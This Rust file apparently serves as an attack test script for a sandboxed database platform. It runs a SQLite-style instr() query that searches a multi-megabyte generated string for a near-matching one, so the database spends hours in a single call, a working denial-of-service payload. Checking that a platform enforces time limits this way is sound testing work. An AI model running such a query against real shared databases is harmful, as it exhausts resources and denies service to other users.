//! Has a database look for a long text in a longer one, so that hours pass inside of one function.
#![no_main]
use attacks::*;

struct Script;
export!(Script);

impl Attack for Script {
    fn run(_: &str) -> Result {
        let long = "replace(hex(zeroblob(7000000)), '00', 'aa')";
        let sought = "replace(hex(zeroblob(3000000)), '00', 'aa') || 'b'";
        database::query("orders", &format!("SELECT instr({long}, {sought})")).map(drop)
    }
}
